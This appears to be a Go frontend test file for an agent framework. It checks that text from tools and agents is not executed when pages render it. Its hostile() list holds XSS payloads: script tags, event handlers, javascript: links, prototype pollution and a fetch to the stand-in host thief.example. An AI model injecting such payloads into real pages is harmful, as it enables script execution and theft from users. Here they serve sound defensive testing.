//go:build frontend

package frontend_test

import (
	"context"
	"encoding/json"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/oneturn/oneturn"
	"github.com/oneturn/oneturn/internal/test/harness"
	"github.com/oneturn/oneturn/tool"
)

// hostile returns texts that run a script where they are not handled as text. The script requests an address and notes
// that it has run.
func hostile() []string {
	const script = `window.executed=1;fetch("https://thief.example/stolen")`
	return []string{
		`<script>` + script + `</script>`,
		`<img src=x onerror='` + script + `'>`,
		`<svg onload='` + script + `'></svg><iframe srcdoc="<script>parent.executed=1</script>"></iframe>`,
		`</pre></script><b id=injected onmouseover='` + script + `'>over</b>`,
		`<a href="javascript:window.executed=1">anchor</a>`,
		`[markdown](javascript:window.executed=1)`,
		`[data](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuZXhlY3V0ZWQ9MTwvc2NyaXB0Pg==)`,
		"![picture](https://thief.example/pixel.png)",
		"<javascript:window.executed=1>",
		"{{constructor.constructor('window.executed=1')()}}${window.executed=1}",
		"$$\\href{javascript:window.executed=1}{formula}$$",
		"```html\n<script>" + script + "</script>\n```",
		"```mermaid\ngraph TD; A[\"<img src=x onerror='window.executed=1'>\"]; click A href \"javascript:window.executed=1\"\n```",
	}
}

// hostileWorker has a tool that sends these texts in each form in which a page gets any.
func hostileWorker(ctx context.Context, in map[string]any) (any, error) {
	all := map[string]any{"texts": hostile(), "title": hostile()[1], "message": hostile()[1], "agent_message": hostile()[5], "__proto__": map[string]any{"executed": 1}}
	for _, text := range hostile() {
		all[text] = text
	}
	if err := tool.Progress(ctx, 50, hostile()[1]); err != nil {
		return nil, err
	}
	if _, err := tool.Show(ctx, tool.Surface{Tool: "surface", Component: "Surface", Payload: all}); err != nil {
		return nil, err
	}
	// Any answer is fine, since the frontends decide what they send.
	answer, err := tool.Ask[any](ctx, tool.Question{Tool: "approve", Component: "PostApproval", Payload: all})
	return map[string]any{"message": hostile()[1], "answer": answer, "input": in, "all": all}, err
}

func TestNothingThatAPageGetsIsExecuted(t *testing.T) {
	t.Parallel()
	require.FileExists(t, "../../../examples/12-frontend/copilotkit/dist/index.html", "run make gateway-test")
	server := harness.NewServer(t)
	harness.StartWorker(t, server, oneturn.Config{Logger: slog.New(slog.DiscardHandler), Tools: []oneturn.Tool{
		oneturn.NewTool("request_approval", hostileWorker, oneturn.ToolOptions{Workflow: "Studio", Agent: "ApprovalAgent", Model: "Post", Effect: oneturn.Replay}),
	}})
	s := newStage(t, server, false)
	client := harness.NewClient(t, server)
	agent := http.NewServeMux()
	agent.HandleFunc("POST /{chat}", func(w http.ResponseWriter, r *http.Request) { // texts of an agent
		for i, text := range hostile() {
			_, err := client.PublishMessage(r.Context(), &oneturn.Message{
				MessageID: oneturn.MessageID{Chat: r.PathValue("chat"), Message: "hostile-" + string(rune('a'+i))}, Workflow: "Studio", Agent: "Writer", UserID: "me", Content: text,
			})
			if err != nil {
				http.Error(w, err.Error(), http.StatusInternalServerError)
			}
		}
	})
	served := httptest.NewServer(agent)
	t.Cleanup(served.Close)
	texts, err := json.Marshal(hostile())
	require.NoError(t, err)
	node(t, "hostile.test.mjs", append(s.settings, "ONETURN_AGENT="+served.URL, "ONETURN_HOSTILE="+string(texts))...)
}
